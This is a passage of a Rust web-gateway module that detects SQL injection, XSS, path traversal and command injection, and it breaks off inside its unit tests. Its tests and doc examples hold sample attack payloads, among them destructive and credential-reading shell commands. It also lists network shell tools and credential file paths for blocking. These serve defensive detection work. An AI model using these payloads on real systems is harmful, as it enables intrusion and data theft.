//! Input inspection: does one decoded value look like an attack?
//!
//! [`inspect_value`] looks at a single value the gateway has already decoded
//! (a query or form value, a header or cookie value, a JSON string) and reports
//! the first rule it trips, with a short piece of evidence for the audit log.
//! SQL injection and XSS come from libinjection (`rampart-libinjection`), which
//! tokenizes instead of matching keywords; path traversal, OS command
//! injection and NUL bytes are hand-written scanners here.
//!
//! Attackers encode twice so that a single decode shows nothing, so a value
//! containing `%` or `&` is inspected a second time after one more round of
//! percent-decoding and HTML-entity decoding. Every scanner is linear in the
//! input and reads the whole value: padding does nothing to what SQL or HTML
//! makes of an attack, so one placed after the first kilobytes must be found
//! too. The cost of a request is bounded by what may be sent (URI, header and
//! body limits), not per value.
//!
//! The hand-written rules aim at what reaches a server in earnest and leave
//! prose and code alone: `../` counts at the start of a value or inside a path,
//! not in "see ../README"; a shell command counts after `;`, `|`, `&&`, a
//! newline, `$(` or a backtick when it has the shape of a command (`; cat
//! /etc/passwd`, `| id`), not in "Tom & Jerry; cat food" or a Markdown table.
//!
//! ```
//! use rampart_core::inspect::{inspect_value, Rule, RuleSet};
//!
//! let rule = |value: &str| inspect_value(value, &RuleSet::ALL).map(|finding| finding.rule);
//! assert_eq!(rule("1' OR '1'='1"), Some(Rule::Sqli));
//! assert_eq!(rule("<script>alert(1)</script>"), Some(Rule::Xss));
//! assert_eq!(rule("../../etc/passwd"), Some(Rule::PathTraversal));
//! assert_eq!(rule("x; cat /etc/passwd"), Some(Rule::CommandInjection));
//! assert_eq!(rule("report.pdf\0.png"), Some(Rule::PathTraversal));
//! // Double-encoded: the value arrives as `%27%20OR%20%271%27%3D%271`.
//! assert_eq!(rule("1%27%20OR%20%271%27%3D%271"), Some(Rule::Sqli));
//! assert_eq!(rule("Tom & Jerry's 50% sale; C++ (and Java) | see ../README"), None);
//!
//! let finding = inspect_value("1 UNION SELECT password FROM users", &RuleSet::ALL).unwrap();
//! assert_eq!(finding.evidence, "1UEnk"); // libinjection's fingerprint
//! ```

use std::fmt;

/// Evidence is cut to this many characters: enough to recognise the attack in
/// the audit log, too short to copy a user's data into it.
const MAX_EVIDENCE_CHARS: usize = 32;

/// One inspection rule.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Rule {
    /// SQL injection, by libinjection's fingerprints.
    Sqli,
    /// Cross-site scripting, by libinjection's HTML5 tokenizer.
    Xss,
    /// `../` segments, sensitive absolute paths and `%00` extension truncation.
    PathTraversal,
    /// A shell separator followed by something shaped like a command.
    CommandInjection,
    /// Any NUL byte.
    NulByte,
}

impl Rule {
    /// Every rule, in the order [`inspect_value`] tries them.
    pub const ALL: [Rule; 5] = [Rule::Sqli, Rule::Xss, Rule::PathTraversal, Rule::CommandInjection, Rule::NulByte];

    /// The rule's name in configuration, metrics and the audit log.
    pub fn as_str(self) -> &'static str {
        match self {
            Rule::Sqli => "sqli",
            Rule::Xss => "xss",
            Rule::PathTraversal => "path_traversal",
            Rule::CommandInjection => "command_injection",
            Rule::NulByte => "nul_byte",
        }
    }
}

impl fmt::Display for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Which rules to apply. Routes that legitimately accept code or shell
/// snippets turn the noisy ones off.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct RuleSet {
    pub sqli: bool,
    pub xss: bool,
    pub path_traversal: bool,
    pub command_injection: bool,
    pub nul_byte: bool,
}

impl RuleSet {
    /// Every rule on; also the default.
    pub const ALL: RuleSet =
        RuleSet { sqli: true, xss: true, path_traversal: true, command_injection: true, nul_byte: true };
    /// Every rule off.
    pub const NONE: RuleSet =
        RuleSet { sqli: false, xss: false, path_traversal: false, command_injection: false, nul_byte: false };

    /// Just `rule`.
    pub const fn only(rule: Rule) -> RuleSet {
        match rule {
            Rule::Sqli => RuleSet { sqli: true, ..RuleSet::NONE },
            Rule::Xss => RuleSet { xss: true, ..RuleSet::NONE },
            Rule::PathTraversal => RuleSet { path_traversal: true, ..RuleSet::NONE },
            Rule::CommandInjection => RuleSet { command_injection: true, ..RuleSet::NONE },
            Rule::NulByte => RuleSet { nul_byte: true, ..RuleSet::NONE },
        }
    }

    /// Whether `rule` is on.
    pub const fn contains(&self, rule: Rule) -> bool {
        match rule {
            Rule::Sqli => self.sqli,
            Rule::Xss => self.xss,
            Rule::PathTraversal => self.path_traversal,
            Rule::CommandInjection => self.command_injection,
            Rule::NulByte => self.nul_byte,
        }
    }
}

impl Default for RuleSet {
    fn default() -> Self {
        RuleSet::ALL
    }
}

/// What [`inspect_value`] found.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    pub rule: Rule,
    /// libinjection's fingerprint for SQL injection, otherwise the matched
    /// text; at most 32 characters, control characters escaped.
    pub evidence: String,
}

impl Finding {
    fn new(rule: Rule, matched: &str) -> Self {
        Finding { rule, evidence: evidence(matched) }
    }
}

/// Inspects one already-decoded value (a query value, header value, cookie
/// value, form field, JSON string) and returns the first rule it trips, in the
/// order of [`Rule::ALL`]. A value containing `%` or `&` is also inspected
/// after one more round of percent- and HTML-entity decoding.
pub fn inspect_value(value: &str, rules: &RuleSet) -> Option<Finding> {
    if let Some(finding) = inspect_view(value, rules) {
        return Some(finding);
    }
    if !value.bytes().any(|b| b == b'%' || b == b'&') {
        return None;
    }
    let decoded = decode_once(value)?;
    inspect_view(&decoded, rules)
}

fn inspect_view(value: &str, rules: &RuleSet) -> Option<Finding> {
    if value.is_empty() {
        return None;
    }
    if rules.sqli {
        if let Some(fingerprint) = rampart_libinjection::sqli(value.as_bytes()) {
            return Some(Finding::new(Rule::Sqli, fingerprint.as_str()));
        }
    }
    if rules.xss && rampart_libinjection::xss(value.as_bytes()) {
        // libinjection does not say where; the first tag is the usual culprit.
        let from = value.find('<').unwrap_or(0);
        return Some(Finding::new(Rule::Xss, value.get(from..).unwrap_or(value)));
    }
    if rules.path_traversal {
        if let Some(matched) = path_traversal(value) {
            return Some(Finding::new(Rule::PathTraversal, matched));
        }
    }
    if rules.command_injection {
        if let Some(matched) = command_injection(value) {
            return Some(Finding::new(Rule::CommandInjection, matched));
        }
    }
    if rules.nul_byte && value.as_bytes().contains(&0) {
        return Some(Finding::new(Rule::NulByte, "\0"));
    }
    None
}

/// `matched` with control characters escaped, cut to [`MAX_EVIDENCE_CHARS`].
fn evidence(matched: &str) -> String {
    let mut out = String::new();
    let mut chars = 0;
    for c in matched.chars() {
        let piece: String = if c.is_control() { c.escape_debug().collect() } else { c.to_string() };
        chars += piece.chars().count();
        if chars > MAX_EVIDENCE_CHARS {
            break;
        }
        out.push_str(&piece);
    }
    out
}

// ---------------------------------------------------------------------------
// One more round of decoding
// ---------------------------------------------------------------------------

/// Percent-decodes `value` once, then HTML-entity-decodes the result once.
/// `None` when that changes nothing. The output is never longer than the
/// input, so the second inspection costs no more than the first.
fn decode_once(value: &str) -> Option<String> {
    let decoded = decode_entities(&fold_overlong(percent_decode(value.as_bytes())));
    (decoded != value.as_bytes()).then(|| String::from_utf8_lossy(&decoded).into_owned())
}

fn hex_value(c: u8) -> Option<u32> {
    char::from(c).to_digit(16)
}

/// `%XX`, and IIS's `%uXXXX`; anything else is kept as it is.
fn percent_decode(input: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        if b == b'%' {
            let hex = |at: usize| input.get(at).copied().and_then(hex_value);
            if let (Some(hi), Some(lo)) = (hex(i + 1), hex(i + 2)) {
                // Two hex digits always fit a byte.
                out.push(u8::try_from((hi << 4) | lo).unwrap_or(b'?'));
                i += 3;
                continue;
            }
            if matches!(input.get(i + 1), Some(b'u' | b'U')) {
                if let (Some(a), Some(b), Some(c), Some(d)) = (hex(i + 2), hex(i + 3), hex(i + 4), hex(i + 5)) {
                    push_code_point(&mut out, (a << 12) | (b << 8) | (c << 4) | d);
                    i += 6;
                    continue;
                }
            }
        }
        out.push(b);
        i += 1;
    }
    out
}

/// Turns overlong UTF-8 encodings of `.`, `/` and `\` (`%c0%ae`, `%c0%af`,
/// `%c1%9c`, `%e0%80%ae`) into the characters that old decoders produced from
/// them; otherwise they would become U+FFFD and hide a traversal.
fn fold_overlong(bytes: Vec<u8>) -> Vec<u8> {
    if !bytes.iter().any(|&b| matches!(b, 0xC0 | 0xC1 | 0xE0)) {
        return bytes;
    }
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        let (c, len) = match (b, bytes.get(i + 1), bytes.get(i + 2)) {
            (0xC0, Some(0xAE), _) => (b'.', 2),
            (0xC0, Some(0xAF), _) => (b'/', 2),
            (0xC1, Some(0x9C), _) => (b'\\', 2),
            (0xE0, Some(0x80), Some(0xAE)) => (b'.', 3),
            (0xE0, Some(0x80), Some(0xAF)) => (b'/', 3),
            _ => (b, 1),
        };
        out.push(c);
        i += len;
    }
    out
}

/// The named references that matter for injection, and common ones.
const NAMED_ENTITIES: &[(&[u8], char)] = &[
    (b"lt", '<'),
    (b"gt", '>'),
    (b"amp", '&'),
    (b"quot", '"'),
    (b"apos", '\''),
    (b"sol", '/'),
    (b"bsol", '\\'),
    (b"lpar", '('),
    (b"rpar", ')'),
    (b"semi", ';'),
    (b"colon", ':'),
    (b"period", '.'),
    (b"grave", '`'),
    (b"equals", '='),
    (b"num", '#'),
    (b"excl", '!'),
    (b"verbar", '|'),
    (b"Tab", '\t'),
    (b"NewLine", '\n'),
    (b"nbsp", '\u{a0}'),
];

/// `&name;`, `&#NNN;` and `&#xHHH;` (the `;` optional for numeric ones, as in
/// browsers; leading zeros allowed, as in `&#0000060`).
fn decode_entities(input: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        if b == b'&' {
            if let Some((c, len)) = entity_at(input.get(i + 1..).unwrap_or_default()) {
                push_code_point(&mut out, c);
                i += 1 + len;
                continue;
            }
        }
        out.push(b);
        i += 1;
    }
    out
}

/// Decodes the reference after a `&`: the code point and how many bytes it
/// used.
fn entity_at(rest: &[u8]) -> Option<(u32, usize)> {
    if let Some(numeric) = rest.strip_prefix(b"#") {
        let (radix, digits, prefix) = match numeric.first() {
            Some(b'x' | b'X') => (16, numeric.get(1..).unwrap_or_default(), 2),
            _ => (10, numeric, 1),
        };
        let zeros = digits.iter().take_while(|&&d| d == b'0').count();
        let significant = digits.iter().skip(zeros).take_while(|&&d| char::from(d).is_digit(radix)).take(8).count();
        if zeros + significant == 0 {
            return None;
        }
        let mut value: u32 = 0;
        for &d in digits.iter().skip(zeros).take(significant) {
            value = value.saturating_mul(radix).saturating_add(char::from(d).to_digit(radix).unwrap_or(0));
        }
        let mut len = prefix + zeros + significant;
        if digits.get(zeros + significant) == Some(&b';') {
            len += 1;
        }
        return Some((value, len));
    }
    NAMED_ENTITIES.iter().find_map(|&(name, c)| {
        let after = rest.strip_prefix(name)?;
        (after.first() == Some(&b';')).then_some((u32::from(c), name.len() + 1))
    })
}

/// Appends `cp` as UTF-8, or U+FFFD when it is NUL (as browsers do for
/// references), a surrogate or out of range.
fn push_code_point(out: &mut Vec<u8>, cp: u32) {
    let c = if cp == 0 { '\u{fffd}' } else { char::from_u32(cp).unwrap_or('\u{fffd}') };
    out.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
}

// ---------------------------------------------------------------------------
// Path traversal
// ---------------------------------------------------------------------------

/// Absolute paths worth refusing wherever a path is expected, lower-case and
/// with `/` separators; matched case-insensitively with `\` as `/`. A trailing
/// `/` makes the entry a prefix.
const SENSITIVE_PATHS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/hosts",
    "/etc/sudoers",
    "/etc/issue",
    "/etc/crontab",
    "/etc/ssh/",
    "/proc/self/",
    "/proc/version",
    "/root/",
    "/.ssh/",
    "/.aws/credentials",
    "/.bash_history",
    "/.htpasswd",
    "/.htaccess",
    "/.git/config",
    "/.env",
    "/windows/win.ini",
    "/winnt/win.ini",
    "/windows/system32/",
    "/boot.ini",
    "/web-inf/web.xml",
];

/// Which bytes may follow the leading `/` of a [`SENSITIVE_PATHS`] entry (they
/// are lowercase): a separator followed by anything else starts none of them,
/// so most separators cost one lookup instead of a comparison per entry.
const SENSITIVE_SECOND_BYTES: [bool; 256] = {
    let mut table = [false; 256];
    let mut i = 0;
    while i < SENSITIVE_PATHS.len() {
        table[SENSITIVE_PATHS[i].as_bytes()[1] as usize] = true;
        i += 1;
    }
    table
};

/// The matched traversal, sensitive path or truncated extension.
fn path_traversal(value: &str) -> Option<&str> {
    // Full-width and similar look-alikes become `.`/`/` under NFKC, which some
    // frameworks apply after we look; rare enough to allocate only for them.
    if value.chars().any(|c| fold_path_char(c) != c) {
        let folded: String = value.chars().map(fold_path_char).collect();
        // The evidence must borrow from `value` or be static; the folded text
        // only decides, so the evidence names what was found instead.
        if dot_dot_segment(&folded).is_some() {
            return Some("../ (look-alike)");
        }
        return sensitive_path(&folded).map(|_| "sensitive path (look-alike)");
    }
    dot_dot_segment(value).or_else(|| sensitive_path(value)).or_else(|| truncated_extension(value))
}

fn fold_path_char(c: char) -> char {
    match c {
        '\u{ff0e}' | '\u{2024}' => '.',
        '\u{ff0f}' | '\u{2215}' => '/',
        '\u{ff3c}' | '\u{2216}' => '\\',
        c => c,
    }
}

/// A segment made only of dots (`..`, also `...`, and `..;` for Tomcat's path
/// parameters) that is followed by a separator, or is `..` ending a path. It
/// counts at the start of the value, after `=` (`?file=../x`), and after an
/// ordinary segment (`/var/www/../..`), but not after text ending in dots, so
/// "see ../README" and `import x from '../../lib'` pass.
fn dot_dot_segment(value: &str) -> Option<&str> {
    let mut anchored = true;
    let mut start = 0;
    let mut first = true;
    while start <= value.len() {
        let rest = value.get(start..).unwrap_or_default();
        let (segment, separator) = match rest.find(['/', '\\']) {
            Some(at) => (rest.get(..at).unwrap_or_default(), rest.get(at..=at)),
            None => (rest, None),
        };
        let (after_equals, candidate) = match segment.rfind('=') {
            Some(at) => (true, segment.get(at + 1..).unwrap_or_default()),
            None => (false, if first { segment.trim_start() } else { segment }),
        };
        let name = candidate.split(';').next().unwrap_or_default();
        let dots = name.len() >= 2 && name.bytes().all(|b| b == b'.');
        if dots && (anchored || after_equals) && (separator.is_some() || (name == ".." && !first)) {
            let end = start + segment.len() + separator.map_or(0, str::len);
            return value.get(start + segment.len() - candidate.len()..end);
        }
        if !segment.is_empty() {
            anchored = !segment.ends_with("..") || dots && anchored;
        }
        first = false;
        start += segment.len() + 1;
    }
    None
}

/// A [`SENSITIVE_PATHS`] entry where a path would begin: at the start, after
/// `=`, a quote, `:`, a separator or a dot (`file:///etc/passwd`,
/// `'/etc/shadow`, `../etc/passwd`), not after a space or a letter, so "edit
/// /etc/hosts" and `example.com/etc/hosts-file` pass.
fn sensitive_path(value: &str) -> Option<&str> {
    let bytes = value.as_bytes();
    for (at, &b) in bytes.iter().enumerate() {
        if b != b'/' && b != b'\\' {
            continue;
        }
        let before = at.checked_sub(1).and_then(|i| bytes.get(i));
        if !matches!(before, None | Some(b'=' | b'\'' | b'"' | b':' | b'/' | b'\\' | b'.')) {
            continue;
        }
        let rest = bytes.get(at..).unwrap_or_default();
        let second = rest.get(1).map_or(b'/', |&c| if c == b'\\' { b'/' } else { c.to_ascii_lowercase() });
        if !SENSITIVE_SECOND_BYTES[usize::from(second)] {
            continue;
        }
        for path in SENSITIVE_PATHS {
            let Some(candidate) = rest.get(..path.len()) else { continue };
            let same = candidate.iter().zip(path.bytes()).all(|(&c, p)| {
                let c = if c == b'\\' { b'/' } else { c.to_ascii_lowercase() };
                c == p
            });
            let whole = path.ends_with('/')
                || rest.get(path.len()).is_none_or(|&next| !(next.is_ascii_alphanumeric() || next == b'_'));
            if same && whole {
                return value.get(at..at + path.len());
            }
        }
    }
    None
}

/// A NUL right after a file extension or right before one (`shell.php\0.jpg`):
/// the classic trick to cut off a suffix the application appends.
fn truncated_extension(value: &str) -> Option<&str> {
    let bytes = value.as_bytes();
    for (at, _) in bytes.iter().enumerate().filter(|&(_, &b)| b == 0) {
        let before = bytes.get(..at).unwrap_or_default();
        // At most 6, so that a long run of letters is not rescanned per NUL.
        let ext = before.iter().rev().take(6).take_while(|b| b.is_ascii_alphanumeric()).count();
        let dotted_before = (1..=5).contains(&ext) && before.len() > ext && before.get(at - ext - 1) == Some(&b'.');
        let after = bytes.get(at + 1..).unwrap_or_default();
        let dotted_after = after.first() == Some(&b'.') && after.get(1).is_some_and(u8::is_ascii_alphanumeric);
        if dotted_before || dotted_after {
            let from = if dotted_before { at - ext - 1 } else { at };
            let to = (at + 1 + after.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'.').count())
                .min(bytes.len());
            return value.get(from..to);
        }
    }
    None
}

// ---------------------------------------------------------------------------
// OS command injection
// ---------------------------------------------------------------------------

/// What ends the shell command before the one we look for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Separator {
    /// `;`, `&`, `&&` or `||`.
    Sequence,
    /// A single `|`: also Markdown's table delimiter.
    Pipe,
    /// A newline; also what separates lines of ordinary text.
    Newline,
    /// `$(` or a backtick: unambiguous command substitution.
    Substitution,
}

/// How much has to follow a command name for it to count.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Needs {
    /// Nothing: the name is not an English word (`whoami`, `wget`, `sh`).
    Name,
    /// The end of the command or an argument (`; id`, `| ls -la`).
    EndOrArgument,
    /// An argument that looks like one (`; cat /etc/passwd`, `; rm -rf`):
    /// the name is also a word ("cat food", "more details").
    Argument,
    /// As `Argument`, or a number (`; sleep 5`).
    ArgumentOrNumber,
    /// As `ArgumentOrNumber`, or a host name (`; ping evil.example`).
    ArgumentOrHost,
}

/// Commands attackers run first (reconnaissance, download, shells, blind
/// timing), by what has to follow them.
const COMMANDS: &[(Needs, &[&str])] = &[
    (
        Needs::Name,
        &[
            "whoami",
            "uname",
            "ifconfig",
            "ipconfig",
            "netstat",
            "systeminfo",
            "tasklist",
            "nslookup",
            "wget",
            "curl",
            "nc",
            "ncat",
            "netcat",
            "socat",
            "telnet",
            "tftp",
            "sh",
            "bash",
            "zsh",
            "ksh",
            "csh",
            "tcsh",
            "busybox",
            "mkfifo",
            "powershell",
            "pwsh",
            "certutil",
            "bitsadmin",
        ],
    ),
    (
        Needs::EndOrArgument,
        &["id", "pwd", "ls", "ps", "env", "printenv", "hostname", "reboot", "shutdown", "dir", "ver"],
    ),
    (
        Needs::Argument,
        &[
            "cat", "tac", "head", "tail", "more", "less", "rm", "cp", "mv", "chmod", "chown", "touch", "mkdir", "find",
            "kill", "killall", "base64", "xxd", "tar", "awk", "sed", "python", "python2", "python3", "perl", "ruby",
            "php", "node", "lua", "exec", "eval", "nohup", "xterm", "sudo", "su", "crontab", "useradd", "passwd",
            "nmap", "openssl", "scp", "dash", "cmd", "type", "net",
        ],
    ),
    (Needs::ArgumentOrNumber, &["echo", "printf", "sleep", "timeout"]),
    (Needs::ArgumentOrHost, &["ping", "dig", "ssh", "ftp"]),
];

/// Windows commands, which match in any case (`| WHOAMI`); the rest only in
/// lower case, as Unix shells do, so "Python; Ruby" is not a command.
const ANY_CASE: &[&str] = &[
    "whoami",
    "ipconfig",
    "netstat",
    "systeminfo",
    "tasklist",
    "nslookup",
    "powershell",
    "pwsh",
    "certutil",
    "bitsadmin",
    "shutdown",
    "dir",
    "ver",
    "cmd",
    "type",
    "net",
    "timeout",
    "ping",
];

/// What follows a command name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Follow {
    /// The end of the value or of the command (`;`, `|`, `#`, `>`, ...).
    End,
    /// An option, path, variable or quoted string.
    Argument,
    Number,
    /// A word with a dot in it.
    Host,
    /// A plain word: most likely English.
    Word,
}

/// The separator and command, as matched (`; cat`, `$(id`, `| whoami`).
fn command_injection(value: &str) -> Option<&str> {
    let bytes = value.as_bytes();
    let mut at = 0;
    while let Some(&b) = bytes.get(at) {
        let next = bytes.get(at + 1).copied();
        let (separator, after) = match b {
            b';' => (Separator::Sequence, at + 1),
            b'&' | b'|' if next == Some(b) => (Separator::Sequence, at + 2),
            b'&' => (Separator::Sequence, at + 1),
            b'|' => (Separator::Pipe, at + 1),
            b'\n' | b'\r' => (Separator::Newline, at + 1),
            b'$' if next == Some(b'(') => (Separator::Substitution, at + 2),
            b'`' if is_substitution_backtick(bytes, at) => (Separator::Substitution, at + 1),
            _ => {
                at += 1;
                continue;
            }
        };
        if let Some(end) = command_after(bytes, separator, after) {
            return value.get(at..end);
        }
        at = after;
    }
    None
}

/// Whether the backtick at `at` opens a command substitution rather than
/// Markdown code. Markdown spans open after a space or at the start and
/// fences come in threes; a substitution is glued to what precedes it
/// (`` name`id` ``) or is the whole value.
fn is_substitution_backtick(bytes: &[u8], at: usize) -> bool {
    let before = at.checked_sub(1).and_then(|i| bytes.get(i)).copied();
    if before == Some(b'`') || bytes.get(at + 1) == Some(&b'`') {
        return false;
    }
    match before {
        None => bytes.len() > 1 && bytes.last() == Some(&b'`'),
        Some(c) => !(c.is_ascii_whitespace() || matches!(c, b'(' | b'[' | b'*' | b'_' | b'>' | b'~')),
    }
}

/// If a command starts at `from` (after blanks and an optional `/…bin/`
/// directory), where it ends.
fn command_after(bytes: &[u8], separator: Separator, from: usize) -> Option<usize> {
    let blank = |b: &u8| *b == b' ' || *b == b'\t';
    let leading_blanks = if separator == Separator::Substitution && bytes.get(from - 1) == Some(&b'`') {
        0 // Shells allow `` ` id` `` but nobody writes it; Markdown does.
    } else {
        bytes.get(from..).unwrap_or_default().iter().take_while(|b| blank(b)).count()
    };
    let mut start = from + leading_blanks;
    if bytes.get(start) == Some(&b'/') {
        let path = bytes.get(start..).unwrap_or_default();
        let len =
            path.iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'_' | b'.' | b'-')).count();
        let path = path.get(..len).unwrap_or_default();
        let dir = path.iter().rposition(|&b| b == b'/').unwrap_or(0);
        if !path.get(..dir).unwrap_or_default().ends_with(b"bin") {
            return None;
        }
        start += dir + 1;
    }
    let rest = bytes.get(start..).unwrap_or_default();
    let name_len = rest.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
    let name = rest.get(..name_len)?;
    let any_case = ANY_CASE.iter().any(|command| name.eq_ignore_ascii_case(command.as_bytes()));
    let needs = COMMANDS.iter().find_map(|&(needs, commands)| {
        let known = commands.iter().any(|command| {
            if any_case {
                name.eq_ignore_ascii_case(command.as_bytes())
            } else {
                name == command.as_bytes()
            }
        });
        known.then_some(needs)
    })?;
    let mut end = start + name_len;
    if any_case && bytes.get(end..end + 4).is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe")) {
        end += 4;
    }
    let follow = follow_after(bytes, end, separator)?;
    let counts = match (separator, needs, follow) {
        (Separator::Substitution, _, _) => true,
        (_, Needs::Name, _) => true,
        (Separator::Newline, Needs::EndOrArgument, Follow::End) => false,
        (_, Needs::EndOrArgument, Follow::End | Follow::Argument) => true,
        (_, _, Follow::Argument) => true,
        (_, Needs::ArgumentOrNumber | Needs::ArgumentOrHost, Follow::Number) => true,
        (_, Needs::ArgumentOrHost, Follow::Host) => true,
        _ => false,
    };
    counts.then_some(end)
}

/// Classifies what follows a command name ending at `end`; `None` when the
/// name is really part of a longer token (`cat-lovers`, `id=5`, `ls.push`).
fn follow_after(bytes: &[u8], end: usize, separator: Separator) -> Option<Follow> {
    let ends_command = |c: u8| match c {
        b';' | b'|' | b'&' | b'\n' | b'\r' | b'#' | b'>' | b'<' | b'`' => true,
        b')' => separator == Separator::Substitution,
        _ => false,
    };
    let Some(&first) = bytes.get(end) else { return Some(Follow::End) };
    if ends_command(first) {
        return Some(Follow::End);
    }
    if first == b'$' {
        return Some(Follow::Argument); // `cat${IFS}/etc/passwd`
    }
    if first != b' ' && first != b'\t' {
        return None;
    }
    let rest = bytes.get(end..).unwrap_or_default();
    let blanks = rest.iter().take_while(|b| **b == b' ' || **b == b'\t').count();
    let Some(&c) = rest.get(blanks) else { return Some(Follow::End) };
    if c == b'|' && separator == Separator::Pipe {
        return None; // `| id | name |`: a Markdown table row.
    }
    // Host names are short; the cap keeps this scan from running far.
    let word = rest.get(blanks..).unwrap_or_default();
    let word = word.get(..word.len().min(256)).unwrap_or_default();
    let word = word.get(..word.iter().position(u8::is_ascii_whitespace).unwrap_or(word.len())).unwrap_or_default();
    Some(match c {
        c if ends_command(c) => Follow::End,
        b'-' | b'/' | b'~' | b'$' | b'.' | b'\\' | b'\'' | b'"' | b'*' => Follow::Argument,
        c if c.is_ascii_digit() => Follow::Number,
        // A Windows drive: `type C:\boot.ini`.
        c if c.is_ascii_alphabetic() && matches!(word.get(1..3), Some(b":\\" | b":/")) => Follow::Argument,
        _ if word.contains(&b'.') => Follow::Host,
        _ => Follow::Word,
    })
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

    use super::*;

    #[track_caller]
    fn check(rules: RuleSet, value: &str, expected: Option<(Rule, &str)>) {
        let got = inspect_value(value, &rules);
        let got = got.as_ref().map(|f| (f.rule, f.evidence.as_str()));
        assert_eq!(got, expected, "value {value:?}");
    }

    /// `value` trips `rule` alone (evidence not checked).
    #[track_caller]
    fn hit(rule: Rule, value: &str) {
        let got = inspect_value(value, &RuleSet::only(rule));
        assert_eq!(got.map(|f| f.rule), Some(rule), "value {value:?} should trip {rule}");
    }

    /// `value` trips nothing, with every rule on.
    #[track_caller]
    fn clean(value: &str) {
        assert_eq!(inspect_value(value, &RuleSet::ALL), None, "value {value:?}");
    }

    #[test]
    fn rule_names_and_sets() {
        let names: Vec<&str> = Rule::ALL.iter().map(|r| r.as_str()).collect();
        assert_eq!(names, ["sqli", "xss", "path_traversal", "command_injection", "nul_byte"]);
        assert_eq!(RuleSet::default(), RuleSet::ALL);
        for rule in Rule::ALL {
            assert!(RuleSet::ALL.contains(rule) && !RuleSet::NONE.contains(rule));
            let only = RuleSet::only(rule);
            assert_eq!(Rule::ALL.iter().filter(|&&r| only.contains(r)).collect::<Vec<_>>(), [&rule]);
        }
        check(RuleSet::NONE, "1' OR '1'='1; cat /etc/passwd\0", None);
    }

    #[test]
    fn evidence_is_short_and_escaped() {
        let all = RuleSet::ALL;
        check(all, "1' OR '1'='1", Some((Rule::Sqli, "s&sos")));
        check(all, "x\n rm -rf /", Some((Rule::CommandInjection, "\\n rm")));
        check(all, "a$(id)", Some((Rule::CommandInjection, "$(id")));
        check(all, "abc\0", Some((Rule::NulByte, "\\0")));
        check(all, "a.php\0.jpg", Some((Rule::PathTraversal, ".php\\0.jpg")));
        check(all, "C:\\Windows\\win.ini", Some((Rule::PathTraversal, "\\Windows\\win.ini")));
        let long = format!("<script>{}</script>", "a".repeat(100));
        let finding = inspect_value(&format!("hello {long}"), &all).unwrap();
        assert_eq!((finding.rule, finding.evidence.as_str()), (Rule::Xss, &long[..32]));
    }

    #[test]
    fn rules_run_in_order_and_respect_the_set() {
        let value = "1' OR '1'='1'; cat /etc/passwd";
        check(RuleSet::ALL, value, Some((Rule::Sqli, "s&sos")));
        check(RuleSet { sqli: false, ..RuleSet::ALL }, value, Some((Rule::CommandInjection, "; cat")));
    }

    #[test]
    fn sqli() {
        for attack in [
            "1' OR '1'='1",
            "1 OR 1=1",
            "admin'--",
            "1; DROP TABLE users--",
            "-1 UNION SELECT username, password FROM users",
            "1' AND SLEEP(5)#",
            "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
            "'; EXEC xp_cmdshell('dir')--",
            // Encoded once more than the gateway decodes.
            "1%27%20OR%20%271%27%3D%271",
            "1&#39; OR &#39;1&#39;=&#39;1",
        ] {
            hit(Rule::Sqli, attack);
        }
        for benign in ["O'Reilly", "It's 5 o'clock", "Select a size", "Union Square", "1-800-FLOWERS", "50% off"] {
            assert_eq!(inspect_value(benign, &RuleSet::only(Rule::Sqli)), None, "{benign:?}");
        }
    }

    #[test]
    fn xss() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jav&#x61;script:alert(1)\">x</a>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "%26lt;img src=x onerror=alert(1)%26gt;",
        ] {
            hit(Rule::Xss, attack);
        }
        for benign in ["1 < 2 > 0", "<b>bold</b>", "I <3 NY", "a -> b => c", "Tom & Jerry", "&lt;b&gt; is bold"] {
            assert_eq!(inspect_value(benign, &RuleSet::only(Rule::Xss)), None, "{benign:?}");
        }
    }

    #[test]
    fn path_traversal() {
        let rule = RuleSet::only(Rule::PathTraversal);
        for (attack, evidence) in [
            ("../../../etc/passwd", "../"),
            ("..\\..\\windows\\win.ini", "..\\"),
            ("/var/www/html/../../../etc/shadow", "../"),
            ("images/../../secret.txt", "../"),
            ("page.php?file=../config.php", "../"),
            ("....//....//etc/passwd", "..../"),
            ("/public/..;/admin", "..;/"),
            ("a/b/..", ".."),
            ("  ../x", "../"),
            // Encoded once more than the gateway decodes.
            ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "../"),
            ("..%2f..%2fetc/passwd", "../"),
            ("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "../"),
            ("..%u2215..%u2215etc", "../ (look-alike)"),
            ("\u{ff0e}\u{ff0e}\u{ff0f}secret", "../ (look-alike)"),
            ("\u{ff0f}etc\u{ff0f}passwd", "sensitive path (look-alike)"),
            // Sensitive targets without a traversal.
